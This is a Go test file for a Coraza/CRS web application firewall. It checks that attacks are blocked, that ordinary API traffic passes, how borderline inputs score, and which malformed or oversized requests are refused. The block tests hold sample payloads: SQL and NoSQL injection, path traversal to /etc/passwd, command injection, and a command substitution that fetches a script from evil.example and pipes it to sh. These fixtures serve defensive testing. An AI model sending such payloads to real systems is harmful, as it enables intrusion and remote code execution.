package waf

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// TestCheckBlocksAtPL1: attacks CRS catches at paranoia level 1. family is the CRS
// rule file that must have matched (942 SQLi, 930 LFI, 932 RCE).
func TestCheckBlocksAtPL1(t *testing.T) {
	w := testWAF(t, Config{Paranoia: 1})
	mp, mpType := multipartBody(t, map[string]string{"name": "1' UNION SELECT password FROM users--"}, "")
	tests := []struct {
		name   string
		r      *http.Request
		body   string
		family int
	}{
		{"sqli in query", req("GET", "/api/items?id=1%27%20OR%201=1--", "", nil), "", 942},
		{"sqli union in query", req("GET", "/api/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users", "", nil), "", 942},
		{"sqli in json value", nil, `{"id":"1' UNION SELECT password FROM users--"}`, 942},
		{"sqli in nested json value", nil, `{"order":{"items":[{"sku":"x' OR '1'='1"}]}}`, 942},
		{"sqli in form body", req("POST", "/login", "application/x-www-form-urlencoded", []byte("user=admin%27--&pass=x")), "user=admin%27--&pass=x", 942},
		{"sqli in multipart field", req("POST", "/upload", mpType, mp), string(mp), 942},
		{"sqli in cookie", withHeader(req("GET", "/api/me", "", nil), "Cookie", "session=1' OR '1'='1"), "", 942},
		{"nosql $ne operators in json", nil, `{"username":{"$ne":null},"password":{"$ne":null}}`, 942},
		{"nosql $where in json", nil, `{"$where":"sleep(5000)"}`, 942},
		{"path traversal in query", req("GET", "/files?name=../../../../etc/passwd", "", nil), "", 930},
		{"encoded path traversal in query", req("GET", "/files?name=..%2f..%2f..%2fetc%2fpasswd", "", nil), "", 930},
		{"command injection in query", req("GET", "/ping?host=127.0.0.1;cat%20/etc/passwd", "", nil), "", 932},
		{"command substitution in json", nil, `{"host":"example.com$(curl http://evil.example/x|sh)"}`, 932},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := tt.r
			if r == nil {
				r = req("POST", "/api/orders", "application/json", []byte(tt.body))
			}
			var body []byte
			if tt.body != "" {
				body = []byte(tt.body)
			}
			v, err := w.Check(r, body)
			if err != nil {
				t.Fatalf("Check: %v", err)
			}
			t.Logf("verdict %+v", v)
			if !v.Blocked || v.Status != http.StatusForbidden {
				t.Fatalf("got %+v, want blocked with 403", v)
			}
			if !hasFamily(v.RuleIDs, tt.family) {
				t.Errorf("rule ids %v, want a %dxxx rule", v.RuleIDs, tt.family)
			}
			if v.Score < DefaultAnomalyThreshold {
				t.Errorf("score %d below threshold on a block", v.Score)
			}
		})
	}
}

func withHeader(r *http.Request, k, v string) *http.Request {
	r.Header.Set(k, v)
	return r
}

// TestCheckPassesBenign: ordinary API traffic passes at PL1.
func TestCheckPassesBenign(t *testing.T) {
	w := testWAF(t, Config{Paranoia: 1})
	order := `{"customer":{"name":"Ann Example","email":"ann@example.com"},"items":[{"sku":"A-100","qty":2,"price":19.99}],"note":"Leave it at the door, please."}`
	mp, mpType := multipartBody(t, map[string]string{"name": "Quarterly report", "comment": "Final version"}, "plain text file\n")
	tests := []struct {
		name string
		r    *http.Request
		body string
	}{
		{"get list", req("GET", "/api/items?page=2&per_page=50&sort=-created_at", "", nil), ""},
		{"get by id", req("GET", "/api/orders/8f14e45f-ceea-467e-a5b6-9a6e3f2f1c2d", "", nil), ""},
		{"json order", req("POST", "/api/orders", "application/json", []byte(order)), order},
		{"json with charset", req("POST", "/api/orders", "application/json; charset=utf-8", []byte(order)), order},
		{"put json", req("PUT", "/api/orders/42", "application/json", []byte(order)), order},
		{"patch merge-patch", req("PATCH", "/api/orders/42", "application/merge-patch+json", []byte(`{"note":null}`)), `{"note":null}`},
		{"delete", req("DELETE", "/api/orders/42", "", nil), ""},
		{"form login", req("POST", "/login", "application/x-www-form-urlencoded", []byte("user=ann&pass=correct+horse")), "user=ann&pass=correct+horse"},
		{"multipart upload", req("POST", "/upload", mpType, mp), string(mp)},
		{"apostrophe name", req("GET", "/search?q=O%27Brien", "", nil), ""},
		{"unicode search", req("GET", "/search?q=%E6%9D%B1%E4%BA%AC%20caf%C3%A9", "", nil), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var body []byte
			if tt.body != "" {
				body = []byte(tt.body)
			}
			v, err := w.Check(tt.r, body)
			if err != nil {
				t.Fatalf("Check: %v", err)
			}
			if v.Blocked || v.Status != 0 {
				t.Fatalf("got %+v, want pass", v)
			}
		})
	}
}

// TestCheckRecorded documents what CRS does with borderline inputs. Only logged:
// at PL1 and PL2 (CRS 4.25) the prose passes, while the operator-style filter that
// Strapi-like APIs use legitimately is blocked by 942290 (see TestRemoveRules).
func TestCheckRecorded(t *testing.T) {
	for _, pl := range []int{1, 2} {
		w := testWAF(t, Config{Paranoia: pl})
		for _, target := range []string{
			"/search?q=Don%27t%20stop%20me%20now",
			"/search?q=select%20a%20size",
			"/search?q=rock%20%26%20roll",
			"/api/items?filter[price][$gte]=10",
		} {
			v, err := w.Check(req("GET", target, "", nil), nil)
			if err != nil {
				t.Fatalf("PL%d %s: %v", pl, target, err)
			}
			t.Logf("PL%d %s: %+v", pl, target, v)
		}
	}
}

// TestCheckCorazaDenials: requests refused by Coraza's own rules or limits, not by
// the CRS anomaly score.
func TestCheckCorazaDenials(t *testing.T) {
	w := testWAF(t, Config{Paranoia: 1, BodyLimit: 64})
	manyArgs := "/api/items?" + strings.Repeat("a=1&", 1000) + "a=1"
	atLimit := `{"note":"` + strings.Repeat("x", 64-len(`{"note":""}`)) + `"}`
	overLimit := `{"note":"` + strings.Repeat("x", 65-len(`{"note":""}`)) + `"}`
	nulURI := req("GET", "/api/items", "", nil)
	nulURI.RequestURI = "/api/items?q=a\x00b"
	tests := []struct {
		name    string
		r       *http.Request
		body    string
		blocked bool
		status  int
		rule    int
	}{
		{"malformed json", req("POST", "/api/orders", "application/json", []byte(`{"id":`)), `{"id":`, true, 400, 200002},
		{"unparsable uri", nulURI, "", true, 400, 10001},
		{"too many query arguments", req("GET", manyArgs, "", nil), "", true, 400, 10002},
		{"body at limit", req("POST", "/api/orders", "application/json", []byte(atLimit)), atLimit, false, 0, 0},
		{"body over limit", req("POST", "/api/orders", "application/json", []byte(overLimit)), overLimit, true, 413, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var body []byte
			if tt.body != "" {
				body = []byte(tt.body)
			}
			v, err := w.Check(tt.r, body)
			if err != nil {
				t.Fatalf("Check: %v", err)
			}
			if v.Blocked != tt.blocked || v.Status != tt.status {
				t.Fatalf("got %+v, want blocked=%v status=%d", v, tt.blocked, tt.status)
			}
			if tt.rule != 0 && !hasRule(v.RuleIDs, tt.rule) {
				t.Errorf("rule ids %v, want %d", v.RuleIDs, tt.rule)
			}
		})
	}
	t.Run("too many body arguments", func(t *testing.T) {
		var b strings.Builder
		b.WriteString("{")
		for i := range 1001 {
			if i > 0 {
				b.WriteString(",")
			}
			fmt.Fprintf(&b, `"k%d":1`, i)
		}
		b.WriteString("}")
		body := []byte(b.String())
		v, err := testWAF(t, Config{Paranoia: 1}).Check(req("POST", "/api/bulk", "application/json", body), body)
		if err != nil {
			t.Fatalf("Check: %v", err)
		}
		if !v.Blocked || v.Status != 400 || !hasRule(v.RuleIDs, 10003) {
			t.Fatalf("got %+v, want 400 by rule 10003", v)
		}
	})
}
